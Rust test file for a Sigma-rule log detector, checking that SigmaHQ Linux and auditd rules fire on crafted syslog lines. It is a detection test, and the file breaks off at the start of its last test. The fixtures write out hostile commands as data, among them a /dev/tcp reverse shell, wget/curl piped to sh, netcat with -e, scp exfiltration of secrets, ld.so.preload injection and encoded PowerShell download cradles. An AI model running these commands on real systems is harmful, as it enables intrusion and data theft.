//! Sigma rules: every SigmaHQ Linux rule in `rules/sigma-linux/` loads and fires on a message it
//! is written for (and not on a near miss); the features of the specification; and rejections
//! that name the file and the construct.

use std::path::Path;

use detector::{
    parse::{ParseOptions, parse},
    rules::{
        load::load_dir,
        sigma::{Level, LogsourceMap, SigmaRule},
    },
};

fn rules_dir() -> &'static Path {
    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules/sigma-linux"))
}

fn fires(rule: &SigmaRule, line: &str) -> bool {
    rule.matches(&parse(line.as_bytes(), &ParseOptions::default()))
}

/// No rule of `rules` fires on a line of the four LogHub samples.
fn none_fires_on_loghub(rules: &[SigmaRule]) {
    let data = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/loghub/");
    for f in [
        "Linux_2k.log",
        "OpenSSH_2k.log",
        "HDFS_2k.log",
        "Apache_2k.log",
    ] {
        for line in std::fs::read_to_string(format!("{data}{f}"))
            .unwrap()
            .lines()
        {
            let e = parse(line.as_bytes(), &ParseOptions::default());
            for r in rules {
                assert!(!r.matches(&e), "{} fires on {f}: {line}", r.file);
            }
        }
    }
}

/// The loaded rule of `file`.
fn by_file<'r>(rules: &'r [SigmaRule], file: &str) -> &'r SigmaRule {
    rules
        .iter()
        .find(|r| r.file.ends_with(file))
        .unwrap_or_else(|| panic!("{file} not loaded"))
}

/// The rule of `file` fires on `hit` and not on `miss`, alone and in a set.
fn each_fires_on_its_own(rules: &[SigmaRule], file: &str, hit: &str, miss: &str) {
    let r = by_file(rules, file);
    assert!(fires_both(r, hit), "{file} misses {hit:?}");
    assert!(!fires_both(r, miss), "{file} fires on {miss:?}");
}

fn rule(yaml: &str) -> SigmaRule {
    SigmaRule::from_yaml("test.yml", yaml, &LogsourceMap::default())
        .unwrap_or_else(|e| panic!("{e}"))
}

fn rejected(yaml: &str) -> String {
    SigmaRule::from_yaml("bad.yml", yaml, &LogsourceMap::default())
        .expect_err("must be rejected")
        .to_string()
}

#[test]
fn every_sigmahq_linux_rule_loads_and_fires_on_its_message() {
    let loaded = load_dir(rules_dir(), &LogsourceMap::default());
    let (rules, errors) = (loaded.rules, loaded.errors);
    assert!(errors.is_empty(), "{errors:#?}");
    assert_eq!(rules.len(), 16);
    // (file, a message it is written for, a near miss)
    let cases = [
        (
            "lnx_apt_equationgroup_lnx.yml",
            "<13>Nov 22 10:00:00 h bash[1]: cd x; cp /bin/sh .;chown root sh",
            "<13>Nov 22 10:00:00 h bash[1]: cp /bin/sh /tmp",
        ),
        (
            "lnx_buffer_overflows.yml",
            "<2>Nov 22 10:00:00 h kernel: *** stack smashing detected ***: terminated",
            "<2>Nov 22 10:00:00 h kernel: stack ok",
        ),
        (
            "lnx_clamav_relevant_message.yml",
            "<3>Nov 22 10:00:00 h clamd[7]: /srv/x.php: Php.Webshell.Generic FOUND",
            "<3>Nov 22 10:00:00 h nginx[7]: /srv/x.php: Php.Webshell.Generic FOUND",
        ),
        (
            "lnx_cron_crontab_file_modification.yml",
            "<78>Nov 22 10:00:00 h crontab[99]: (root) REPLACE (root)",
            "<78>Nov 22 10:00:00 h crontab[99]: (root) LIST (root)",
        ),
        (
            "lnx_file_copy.yml",
            "<13>Nov 22 10:00:00 h bash[1]: scp secrets.tar user@198.51.100.9:/tmp",
            "<13>Nov 22 10:00:00 h bash[1]: scp -h",
        ),
        (
            "lnx_guacamole_susp_guacamole.yml",
            "<14>Nov 22 10:00:00 h guacd[5]: Session (2 users now present)",
            "<14>Nov 22 10:00:00 h guacd[5]: Session (1 user now present)",
        ),
        (
            "lnx_ldso_preload_injection.yml",
            "<13>Nov 22 10:00:00 h bash[1]: echo /tmp/x.so > /etc/ld.so.preload",
            "<13>Nov 22 10:00:00 h bash[1]: cat /etc/ld.so.conf",
        ),
        (
            "lnx_potential_susp_ebpf_activity.yml",
            "<4>Nov 22 10:00:00 h kernel: prog uses bpf_probe_write_user helper",
            "<4>Nov 22 10:00:00 h kernel: prog loaded",
        ),
        (
            "lnx_shell_clear_cmd_history.yml",
            "<13>Nov 22 10:00:00 h bash[1]: ln -sf /dev/null ~/.bash_history",
            "<13>Nov 22 10:00:00 h bash[1]: ls ~/.bash_history",
        ),
        (
            "lnx_shell_susp_commands.yml",
            "<13>Nov 22 10:00:00 h bash[1]: wget -q -O - http://198.51.100.9/x | sh",
            "<13>Nov 22 10:00:00 h bash[1]: wget http://198.51.100.9/x",
        ),
        (
            "lnx_shell_susp_log_entries.yml",
            "<6>Nov 22 10:00:00 h kernel: device eth0 entered promiscuous mode",
            "<6>Nov 22 10:00:00 h kernel: device eth0 link up",
        ),
        (
            "lnx_shellshock.yml",
            "<13>Nov 22 10:00:00 h httpd[3]: GET /cgi-bin/x UA: () { :; }; /bin/id",
            "<13>Nov 22 10:00:00 h httpd[3]: GET /cgi-bin/x",
        ),
        (
            "lnx_sshd_susp_ssh.yml",
            "<38>Nov 22 10:00:00 h sshd[24200]: error: Could not load host key: incorrect signature",
            "<38>Nov 22 10:00:00 h cron[24200]: error: incorrect signature",
        ),
        (
            "lnx_susp_dev_tcp.yml",
            "<13>Nov 22 10:00:00 h bash[1]: bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
            "<13>Nov 22 10:00:00 h bash[1]: bash -i",
        ),
        (
            "lnx_symlink_etc_passwd.yml",
            "<13>Nov 22 10:00:00 h bash[1]: ln -s /etc/passwd /tmp/p",
            "<13>Nov 22 10:00:00 h bash[1]: cat /etc/passwd",
        ),
        (
            "lnx_syslog_security_tools_disabling_syslog.yml",
            "<30>Nov 22 10:00:00 h rsyslogd: Stopping firewalld - dynamic firewall daemon",
            "<30>Nov 22 10:00:00 h rsyslogd: Starting firewalld",
        ),
    ];
    for (file, hit, miss) in cases {
        each_fires_on_its_own(&rules, file, hit, miss);
    }
    // Loaded rules keep their metadata.
    let r = by_file(&rules, "lnx_shellshock.yml");
    assert_eq!(r.level, Level::High);
    assert!(r.id.is_some());
}

#[test]
fn selections_modifiers_and_conditions() {
    let r = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    selection_ssh:
        app: sshd
        message|contains|all: ['Failed password', 'from']
    selection_sudo:
        - app: sudo
          message|startswith: 'pam_unix'
        - app: su
    filter:
        host|endswith: '.lab'
    condition: 1 of selection_* and not filter
"#,
    );
    assert!(fires(
        &r,
        "<38>Nov 22 10:00:00 prod1 sshd[1]: Failed password for root from 198.51.100.7"
    ));
    assert!(!fires(
        &r,
        "<38>Nov 22 10:00:00 box.lab sshd[1]: Failed password for root from 198.51.100.7"
    ));
    assert!(
        !fires(
            &r,
            "<38>Nov 22 10:00:00 prod1 sshd[1]: Failed password for root"
        ),
        "all"
    );
    assert!(fires(
        &r,
        "<38>Nov 22 10:00:00 prod1 sudo[1]: pam_unix(sudo:auth): failure"
    ));
    assert!(fires(&r, "<38>Nov 22 10:00:00 prod1 su[1]: anything"));
    assert!(!fires(
        &r,
        "<38>Nov 22 10:00:00 prod1 sudo[1]: session opened"
    ));

    let r = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    a:
        src|cidr: 198.51.100.0/24
    b:
        cmd|re: '^curl .*\| *sh$'
    c:
        user|exists: true
    _helper:
        act: blocked
    condition: all of them
"#,
    );
    let line = r#"<14>1 - h app - - - src=198.51.100.7 cmd="curl http://x | sh" user=bob"#;
    assert!(fires(&r, line), "`them` leaves out _helper");
    assert!(!fires(
        &r,
        r#"<14>1 - h app - - - src=203.0.113.7 cmd="curl http://x | sh" user=bob"#
    ));
    assert!(!fires(
        &r,
        r#"<14>1 - h app - - - src=198.51.100.7 cmd="curl http://x | sh""#
    ));

    let r = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    enc:
        CommandLine|base64offset|contains: 'http://'
    dash:
        CommandLine|windash|contains: ' -enc '
    cased:
        message|cased|contains: 'ERROR'
    nothing:
        missing: null
    condition: (enc or dash) or (cased and nothing)
"#,
    );
    // "http://" at offset 0, 1 and 2 of a base64-encoded command line.
    for encoded in [
        "aHR0cDovL2V4YW1wbGU=",
        "eGh0dHA6Ly9leGFtcGxl",
        "eHhodHRwOi8vZXhhbXBsZQ==",
    ] {
        assert!(
            fires(
                &r,
                &format!(r#"<14>1 - h app - - - CommandLine="x {encoded}""#)
            ),
            "{encoded}"
        );
    }
    assert!(
        fires(&r, r#"<14>1 - h app - - - CommandLine="ps /enc abc""#),
        "windash"
    );
    assert!(
        fires(&r, "<14>1 - h app - - - an ERROR here"),
        "cased, and null for an absent field"
    );
    assert!(!fires(&r, "<14>1 - h app - - - an error here"), "cased");
}

#[test]
fn wildcards_and_keywords_are_case_insensitive() {
    let r = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    keywords: ['rm -rf /*', 'ESCAPED \* star']
    condition: keywords
"#,
    );
    assert!(fires(&r, "<13>Nov 22 10:00:00 h bash[1]: RM -RF /var"));
    assert!(fires(&r, "<13>Nov 22 10:00:00 h bash[1]: escaped * star"));
    assert!(!fires(&r, "<13>Nov 22 10:00:00 h bash[1]: escaped x star"));
}

#[test]
fn unsupported_constructs_are_rejected_naming_file_and_construct() {
    let base = |detection: &str| {
        format!("title: t\nlogsource: {{product: linux}}\ndetection:\n{detection}\n")
    };
    let e = rejected(&base("    sel:\n        a|nosuch: x\n    condition: sel"));
    assert!(
        e.starts_with("bad.yml: sel.a|nosuch: modifier \"nosuch\""),
        "{e}"
    );
    let e = rejected(&base(
        "    sel:\n        a|expand: '%admins%'\n    condition: sel",
    ));
    assert!(
        e.starts_with("bad.yml: sel.a|expand: placeholder %admins% has no values"),
        "{e}"
    );
    let e = rejected(&base("    sel: [x]\n    condition: sel | count() > 5"));
    assert!(e.contains("condition") && e.contains("aggregations"), "{e}");
    let e = rejected(&base("    sel: [x]\n    condition: sel and other"));
    assert!(e.contains("no search named \"other\""), "{e}");
    let e = rejected(&base("    sel:\n        a|re: '('\n    condition: sel"));
    assert!(
        e.contains("sel.a|re") && e.contains("bad regular expression"),
        "{e}"
    );
    let e = rejected(
        "title: t\nlogsource: {product: windows}\ndetection: {sel: [x], condition: sel}\n",
    );
    assert!(
        e.contains("logsource.product") && e.contains("windows"),
        "{e}"
    );
    let e = rejected(
        "title: t\nlogsource: {product: linux, service: nosuch}\ndetection: {sel: [x], condition: sel}\n",
    );
    assert!(e.contains("logsource.service"), "{e}");
    let e = rejected(
        "title: t\nlogsource: {category: image_load}\ndetection: {sel: [x], condition: sel}\n",
    );
    assert!(e.contains("logsource.category"), "{e}");
    let e = rejected("title: t\ncorrelation: {type: event_count}\n");
    assert!(e.contains("correlation"), "{e}");
    let e = rejected("title: [unclosed\n");
    assert!(e.contains("yaml"), "{e}");
}

#[test]
fn the_prefiltered_set_matches_exactly_what_each_rule_matches() {
    use detector::rules::sigma::{SigmaScratch, SigmaSet};
    let loaded = load_dir(rules_dir(), &LogsourceMap::default());
    let (rules, errors) = (loaded.rules, loaded.errors);
    assert!(errors.is_empty());
    let mut extra = vec![rule(
        r#"
title: numeric and not-based, needs no literal
logsource: {product: linux}
detection:
    sel: {pid|gt: 0}
    filter: ['Accepted']
    condition: sel and not filter
"#,
    )];
    extra.extend(rules.iter().cloned());
    let set = SigmaSet::new(extra.clone());
    assert!(
        set.screened(),
        "the SigmaHQ literals are screened, not run through an automaton"
    );
    assert_eq!(
        set.unfiltered(),
        1,
        "only the numeric rule is always evaluated"
    );
    let mut scratch = SigmaScratch::default();
    let data = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/loghub/");
    let mut lines: Vec<String> = ["Linux_2k.log", "OpenSSH_2k.log"]
        .iter()
        .flat_map(|f| {
            std::fs::read_to_string(format!("{data}{f}"))
                .unwrap()
                .lines()
                .map(String::from)
                .collect::<Vec<_>>()
        })
        .collect();
    lines.extend([
        "<13>Nov 22 10:00:00 h bash[1]: wget -q -O - http://198.51.100.9/x | sh".to_string(),
        "<13>Nov 22 10:00:00 h httpd[3]: GET /cgi-bin/x UA: () { :; }; /bin/id".to_string(),
        "<13>Nov 22 10:00:00 h bash[1]: SCP secrets.tar user@198.51.100.9:/tmp".to_string(),
    ]);
    let mut fired = 0;
    for line in &lines {
        let e = parse(line.as_bytes(), &ParseOptions::default());
        let want: Vec<usize> = (0..extra.len()).filter(|&i| extra[i].matches(&e)).collect();
        let mut got = Vec::new();
        set.for_each_match(&e, &mut scratch, |i| got.push(i));
        assert_eq!(got, want, "{line}");
        fired += got.len();
    }
    assert!(
        fired > 100,
        "the numeric rule fires on lines with a pid, the crafted ones on theirs: {fired}"
    );
}

/// Field selections need literals too: a value a rule compares is a run of the message's own
/// bytes, header included, so the prefilter screens the whole message. What has no literal (a
/// number, a CIDR, `exists`, a negation) leaves its rule to be evaluated on every event; a
/// regex contributes its literal prefixes or suffixes.
#[test]
fn field_selections_and_regexes_go_through_the_prefilter() {
    use detector::rules::sigma::{SigmaScratch, SigmaSet};
    let literals = |yaml: &str| -> Option<Vec<String>> {
        let set = SigmaSet::new(vec![rule(yaml)]);
        (set.unfiltered() == 0).then(|| {
            let mut l: Vec<String> = set
                .literals()
                .iter()
                .map(|l| String::from_utf8_lossy(l).into_owned())
                .collect();
            l.sort();
            l
        })
    };
    let yaml = |detection: &str| {
        format!("title: t\nlogsource: {{product: linux}}\ndetection:\n{detection}")
    };
    // The app is in the header: a selection on it is screened over the whole message.
    assert_eq!(
        literals(&yaml("    sel: {app: sshd}\n    condition: sel")),
        Some(vec!["sshd".into()])
    );
    // A list of values: any of them; `all`: the rarest one; a map: the rarest item.
    assert_eq!(
        literals(&yaml(
            "    sel: {Image|endswith: [/curl, /wget]}\n    condition: sel"
        )),
        Some(vec!["/curl".into(), "/wget".into()])
    );
    assert_eq!(
        literals(&yaml(
            "    sel: {CommandLine|contains|all: [' -e ', '/bin/bash']}\n    condition: sel"
        )),
        Some(vec!["/bin/bash".into()])
    );
    assert_eq!(
        literals(&yaml(
            "    sel: {uid: 0, exe|endswith: /insmod}\n    condition: sel"
        )),
        Some(vec!["/insmod".into()])
    );
    // Regexes: their prefixes or their suffixes, the smaller set (Unicode case folding gives
    // `passwd` the variants `pa\u{17f}swd`, ...; `root` has none).
    assert_eq!(
        literals(&yaml(
            "    sel: {cmd|re: '(?i)passwd\\s+root'}\n    condition: sel"
        )),
        Some(vec!["root".into()])
    );
    assert_eq!(
        literals(&yaml(
            "    sel: {cmd|re: 'wget .*http'}\n    condition: sel"
        )),
        Some(vec!["wget ".into()])
    );
    assert_eq!(
        literals(&yaml("    sel: {cmd|re: '.*\\.onion'}\n    condition: sel")),
        Some(vec![".onion".into()])
    );
    // Nothing to look for.
    for detection in [
        "    sel: {pid|gt: 100}\n    condition: sel",
        "    sel: {DestinationIp|cidr: 10.0.0.0/8}\n    condition: sel",
        "    sel: {user|exists: true}\n    condition: sel",
        "    sel: {severity: err}\n    condition: sel",
        "    sel: {app: sshd}\n    condition: not sel",
        "    sel: {cmd|re: '\\d+'}\n    condition: sel",
        // Too short for the screen.
        "    sel: {EventID: 11}\n    condition: sel",
    ] {
        assert_eq!(literals(&yaml(detection)), None, "{detection}");
    }
    // And the set still matches exactly what the rule does, header fields included.
    let r = rule(&yaml(
        "    sel: {app: sshd, pid|lt: 100}\n    condition: sel",
    ));
    let set = SigmaSet::new(vec![r.clone()]);
    for line in [
        "<38>Nov 22 10:00:00 h sshd[42]: Accepted password",
        "<38>Nov 22 10:00:00 h sshd[4242]: Accepted password",
        "<38>Nov 22 10:00:00 h cron[42]: sshd restarted",
        "<38>1 2026-11-22T10:00:00Z h SSHD 42 - - x",
    ] {
        let e = parse(line.as_bytes(), &ParseOptions::default());
        let mut got = false;
        set.for_each_match(&e, &mut SigmaScratch::default(), |_| got = true);
        assert_eq!(got, r.matches(&e), "{line}");
    }
}

#[test]
fn the_prefilter_takes_the_rarest_literals_of_an_and() {
    use detector::rules::sigma::SigmaSet;
    // SigmaHQ's file copy rule: `tools and filter`, where the filter is `@` or `:`. A colon is in
    // nearly every syslog message, so the tools must be the rule's literals.
    let set = SigmaSet::new(vec![rule(
        r#"
title: copy
logsource: {product: linux}
detection:
    tools: ['scp ', 'rsync ', 'sftp ']
    filter: ['@', ':']
    condition: tools and filter
"#,
    )]);
    let mut lits: Vec<&[u8]> = set.literals().iter().map(Vec::as_slice).collect();
    lits.sort();
    assert_eq!(lits, [&b"rsync "[..], b"scp ", b"sftp "]);
}

#[test]
fn regexes_run_through_one_regex_set_per_field() {
    use detector::rules::sigma::{SigmaScratch, SigmaSet};
    let rules = vec![
        rule(
            r#"
title: body regexes, one with flags
logsource: {product: linux}
detection:
    sel:
        message|re: 'Failed password for (invalid user )?root'
    sel_ci:
        message|re|i: '^ACCEPTED PUBLICKEY'
    condition: sel or sel_ci
"#,
        ),
        rule(
            r#"
title: all of two regexes on the body, and a keyword regex
logsource: {product: linux}
detection:
    both:
        message|re|all: ['port \d{4,5}', 'from 203\.0\.113\.']
    kw:
        - 'x'
    condition: both and not kw
"#,
        ),
        rule(
            r#"
title: a payload field and the app
logsource: {product: linux}
detection:
    sel:
        user|re: '^adm'
        app|re: 'ssh'
    condition: sel
"#,
        ),
        rule(
            r#"
title: the same pattern as the first rule, shared
logsource: {product: linux}
detection:
    sel:
        message|re: 'Failed password for (invalid user )?root'
    condition: sel
"#,
        ),
    ];
    let set = SigmaSet::new(rules.clone());
    assert_eq!(set.regex_sets(), 3, "message, user and app");
    let lines: [&[u8]; 8] = [
        b"<38>Nov 22 10:00:00 h sshd[1]: Failed password for root from 203.0.113.9 port 4242 ssh2",
        b"<38>Nov 22 10:00:00 h sshd[1]: Failed password for invalid user root from 198.51.100.1 port 22 ssh2",
        b"<38>Nov 22 10:00:00 h sshd[1]: Accepted publickey for admin from 203.0.113.9 port 51000 ssh2",
        b"<38>Nov 22 10:00:00 h sshd[1]: Accepted publickey for admin from 203.0.113.9 port 22 ssh2",
        b"<38>Nov 22 10:00:00 h sshd[1]: user=admin action=login",
        b"<38>Nov 22 10:00:00 h cron[1]: user=admin action=login",
        b"<38>Nov 22 10:00:00 h sshd[1]: user=root action=login",
        b"<38>Nov 22 10:00:00 h sshd[1]: \xff\xfe not text: Failed password for root",
    ];
    let mut scratch = SigmaScratch::default();
    let mut fired = vec![0; rules.len()];
    for line in lines {
        let e = parse(line, &ParseOptions::default());
        let want: Vec<usize> = (0..rules.len()).filter(|&i| rules[i].matches(&e)).collect();
        let mut got = Vec::new();
        set.for_each_match(&e, &mut scratch, |i| got.push(i));
        assert_eq!(got, want, "{}", String::from_utf8_lossy(line));
        for i in got {
            fired[i] += 1;
        }
    }
    assert_eq!(fired, [5, 2, 1, 3], "each rule fires where it should");
}

/// A keyword search written as a map whose key is modifiers only (`'|all'`, `'|re|i'`,
/// `'|base64offset|contains'`): the values are searched in the whole message, as keywords are.
#[test]
fn a_keyword_map_of_modifiers_only_searches_the_message() {
    let line = |body: &str| format!("<13>Nov 22 10:00:00 h bash[1]: {body}");
    let all = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    keywords:
        '|all': ['bash -c /bin/bash', '&/dev/tcp/']
    condition: keywords
"#,
    );
    assert!(fires_both(
        &all,
        &line("sh -c 'bash -c /bin/bash >& /dev/null 0>&/dev/tcp/198.51.100.9/4444'")
    ));
    assert!(
        !fires_both(&all, &line("bash -c /bin/bash alone")),
        "every value of |all"
    );
    // Keywords are case-insensitive, like a plain keyword list.
    assert!(fires_both(&all, &line("BASH -C /BIN/BASH 0>&/DEV/TCP/x")));

    let re = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    keywords:
        '|re|i': 'passwd\s+root'
    condition: keywords
"#,
    );
    assert!(fires_both(&re, &line("sudo PASSWD   root")));
    assert!(!fires_both(&re, &line("passwd alice")));

    // "curl http" as it reads when base64-encoded at any offset inside a longer string.
    let b64 = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    keywords:
        '|base64offset|contains': 'curl http'
    condition: keywords
"#,
    );
    for prefix in ["", "x", "xy"] {
        let encoded = base64_of(&format!("{prefix}curl http://198.51.100.9/a"));
        assert!(
            fires_both(&b64, &line(&format!("echo {encoded} | base64 -d | sh"))),
            "{prefix:?}"
        );
    }
    assert!(!fires_both(
        &b64,
        &line("echo Y2F0IC9ldGMvcGFzc3dk | base64 -d")
    ));

    // With a selection: both must hold.
    let and = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    selection: {app: bash}
    keywords:
        '|all': ['nc ', ' -e ']
    condition: selection and keywords
"#,
    );
    assert!(fires_both(&and, &line("nc 198.51.100.9 4444 -e /bin/sh")));
    assert!(!fires_both(
        &and,
        "<13>Nov 22 10:00:00 h zsh[1]: nc 198.51.100.9 4444 -e /bin/sh"
    ));
    assert!(!fires_both(&and, &line("nc 198.51.100.9 4444")));

    // Existence asks of a field; without a name there is none to ask of.
    let e = rejected(
        r#"
title: t
logsource: {product: linux}
detection:
    keywords: {'|exists': true}
    condition: keywords
"#,
    );
    assert!(e.contains("bad.yml") && e.contains("exists"), "{e}");
}

/// Whether `rule` fires on `line`, alone and through a prefiltered set (which must agree).
fn fires_both(rule: &SigmaRule, line: &str) -> bool {
    use detector::rules::sigma::{SigmaScratch, SigmaSet};
    let e = parse(line.as_bytes(), &ParseOptions::default());
    let alone = rule.matches(&e);
    let set = SigmaSet::new(vec![rule.clone()]);
    let mut in_set = false;
    set.for_each_match(&e, &mut SigmaScratch::default(), |_| in_set = true);
    assert_eq!(alone, in_set, "the set and the rule disagree on {line}");
    alone
}

/// Standard base64 with padding.
fn base64_of(s: &str) -> String {
    base64_bytes(s.as_bytes())
}

/// Standard base64 with padding, of bytes.
fn base64_bytes(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in bytes.chunks(3) {
        let b = [c[0], *c.get(1).unwrap_or(&0), *c.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            out.push(if i <= c.len() {
                A[(n >> (18 - 6 * i) & 63) as usize] as char
            } else {
                '='
            });
        }
    }
    out
}

/// `lt`, `lte`, `gt`, `gte`: the field read as a number; a value that is not one never matches,
/// and a rule whose bound is not a number is refused.
#[test]
fn numeric_modifiers_compare_field_values_as_numbers() {
    let r = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    many: {attempts|gte: 5}
    fast: {duration|lt: 0.5}
    condition: many and fast
"#,
    );
    let line = |kv: &str| format!("<13>Nov 22 10:00:00 h app[1]: action=login {kv}");
    assert!(fires_both(&r, &line("attempts=5 duration=0.25")));
    assert!(fires_both(&r, &line("attempts=12 duration=-1")));
    assert!(!fires_both(&r, &line("attempts=4 duration=0.25")), "gte");
    assert!(!fires_both(&r, &line("attempts=9 duration=0.5")), "lt");
    assert!(
        !fires_both(&r, &line("attempts=many duration=0.1")),
        "not a number"
    );
    assert!(!fires_both(&r, &line("duration=0.1")), "no such field");
    let bounds = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    sel: {code|gt: 399, code|lte: 404}
    condition: sel
"#,
    );
    assert!(fires_both(&bounds, &line("code=404")));
    assert!(!fires_both(&bounds, &line("code=399")));
    assert!(!fires_both(&bounds, &line("code=405")));
    let e = rejected(
        r#"
title: t
logsource: {product: linux}
detection:
    sel: {attempts|gt: lots}
    condition: sel
"#,
    );
    assert!(e.contains("bad.yml") && e.contains("not a number"), "{e}");
}

/// `neq`: a value of the field other than the one given; absent fields never match.
/// `fieldref`: the field's value compared with another field's.
#[test]
fn neq_and_fieldref_compare_with_a_value_or_another_field() {
    let line = |kv: &str| format!("<13>Nov 22 10:00:00 h su[1]: {kv}");
    let neq = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    sel: {action: switch, target|neq: nobody}
    condition: sel
"#,
    );
    assert!(fires_both(&neq, &line("action=switch target=root")));
    assert!(!fires_both(&neq, &line("action=switch target=nobody")));
    assert!(
        !fires_both(&neq, &line("action=switch target=NOBODY")),
        "case aside"
    );
    assert!(!fires_both(&neq, &line("action=switch")), "no such field");
    // With several values and `all`: unlike every one.
    let none_of = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    sel: {target|neq|all: [nobody, www-data]}
    condition: sel
"#,
    );
    assert!(fires_both(&none_of, &line("target=root")));
    assert!(!fires_both(&none_of, &line("target=www-data")));

    let same = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    sel: {action: switch, target|fieldref: user}
    condition: sel
"#,
    );
    assert!(fires_both(
        &same,
        &line("action=switch user=alice target=alice")
    ));
    assert!(fires_both(
        &same,
        &line("action=switch user=Alice target=alice")
    ));
    assert!(!fires_both(
        &same,
        &line("action=switch user=alice target=root")
    ));
    assert!(
        !fires_both(&same, &line("action=switch target=alice")),
        "no such field"
    );
    let prefix = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    sel: {home|fieldref|startswith: user}
    filter: {home|fieldref|endswith|cased: user}
    condition: sel and not filter
"#,
    );
    assert!(fires_both(&prefix, &line("user=al home=alice")));
    assert!(!fires_both(&prefix, &line("user=ce home=alice")));
    assert!(
        !fires_both(&prefix, &line("user=al home=al")),
        "ends with it too"
    );
    let e = rejected(
        r#"
title: t
logsource: {product: linux}
detection:
    keywords: {'|neq': root}
    condition: keywords
"#,
    );
    assert!(e.contains("need a field name"), "{e}");
}

/// `utf16le` (`wide`), `utf16be`, `utf16`: the text's UTF-16 encoding, then base64 of it, as
/// PowerShell's `-EncodedCommand` writes it.
#[test]
fn utf16_modifiers_encode_before_base64() {
    let le = |s: &str| {
        s.encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect::<Vec<u8>>()
    };
    let be = |s: &str| {
        s.encode_utf16()
            .flat_map(u16::to_be_bytes)
            .collect::<Vec<u8>>()
    };
    let b64 = base64_bytes;
    let line = |cmd: &str| format!("<13>Nov 22 10:00:00 h pwsh[1]: cmd=\"pwsh -enc {cmd}\"");
    for (modifier, encoded) in [
        ("wide", b64(&le("IEX (New-Object Net.WebClient)"))),
        ("utf16le", b64(&le("xIEX (New-Object Net.WebClient)"))),
        ("utf16be", b64(&be("xyIEX (New-Object Net.WebClient)"))),
    ] {
        let r = rule(&format!(
            r#"
title: t
logsource: {{product: linux}}
detection:
    sel: {{cmd|{modifier}|base64offset|contains: 'IEX (New-Object'}}
    condition: sel
"#
        ));
        assert!(fires_both(&r, &line(&encoded)), "{modifier}: {encoded}");
        let plain = b64(b"IEX (New-Object Net.WebClient)");
        assert!(!fires_both(&r, &line(&plain)), "{modifier}: not UTF-16");
    }
    let mut bom = vec![0xff, 0xfe];
    bom.extend(le("whoami /all"));
    let r = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    sel: {cmd|utf16|base64|contains: 'whoami'}
    condition: sel
"#,
    );
    assert!(fires_both(&r, &line(&b64(&bom))), "the mark leads");
    assert!(!fires_both(&r, &line(&b64(&le("whoami /all")))), "no mark");
    let exact = rule(
        r#"
title: t
logsource: {product: linux}
detection:
    sel: {cmd|utf16|base64offset|contains: 'whoami'}
    condition: sel
"#,
    );
    assert!(fires_both(&exact, &line(&b64(&bom))));
    let e = rejected(
        r#"
title: t
logsource: {product: linux}
detection:
    sel: {cmd|wide|contains: 'whoami'}
    condition: sel
"#,
    );
    assert!(e.contains("base64"), "{e}");
}

/// `service: auditd` takes an audit record in every form it reaches syslog in, whatever the tag;
/// and only audit records (or the audit daemons' own messages).
#[test]
fn auditd_rules_take_audit_records_in_every_form() {
    let r = rule(
        r#"
title: account made
logsource: {product: linux, service: auditd}
detection:
    syscall:
        type: SYSCALL
        exe|endswith: '/useradd'
    added:
        type: ADD_USER
    condition: 1 of syscall or added
"#,
    );
    let syscall = r#"type=SYSCALL msg=audit(1700000000.123:4242): arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=1000 pid=1234 auid=1000 uid=0 comm="useradd" exe="/usr/sbin/useradd" key=(null)"#;
    let added = r#"type=ADD_USER msg=audit(1700000000.200:4243): pid=1234 uid=0 auid=1000 ses=3 msg='op=adding user id=1001 exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success'"#;
    for line in [
        // audit 3's syslog plugin.
        format!("<85>Nov 22 10:00:00 web1 audisp-syslog: {syscall}"),
        // audit 2's dispatcher, with the node name first.
        format!("<85>Nov 22 10:00:00 web1 audispd: node=web1 {added}"),
        // rsyslog's imfile reading /var/log/audit/audit.log under a tag of its choosing.
        format!("<13>Nov 22 10:00:00 web1 auditlog: {syscall}"),
        format!("<13>1 2026-11-22T10:00:00Z web1 tail - - - {added}"),
    ] {
        assert!(fires_both(&r, &line), "{line}");
    }
    // The same words outside an audit record, from another app: not the service's.
    assert!(!fires_both(
        &r,
        "<13>Nov 22 10:00:00 web1 tailer: note type=ADD_USER exe=/usr/sbin/useradd"
    ));

    // The kernel's own lines: `audit:` and the stamp without `msg=`, after its timestamp.
    let avc = rule(
        r#"
title: apparmor denial
logsource: {product: linux, service: auditd}
detection:
    sel: {type: '1400', apparmor: DENIED}
    condition: sel
"#,
    );
    let kernel = r#"<4>Nov 22 10:00:00 web1 kernel: [ 1234.567890] audit: type=1400 audit(1700000000.400:4245): apparmor="DENIED" operation="exec" profile="snap.x" name="/bin/sh" pid=77 comm="x""#;
    assert!(fires_both(&avc, kernel));
    let e = parse(kernel.as_bytes(), &ParseOptions::default());
    let stamp = e.fields().find(|f| f.key == b"audit").map(|f| f.value);
    assert_eq!(stamp, Some(&b"1700000000.400:4245"[..]));
}

/// Every SigmaHQ auditd rule shipped in `rules/sigma-auditd/` loads unchanged and fires on an
/// audit record it is written for (in one of the forms audit records reach syslog in), not on a
/// near miss, and none fires on the LogHub samples.
#[test]
fn every_sigmahq_auditd_rule_loads_and_fires_on_its_record() {
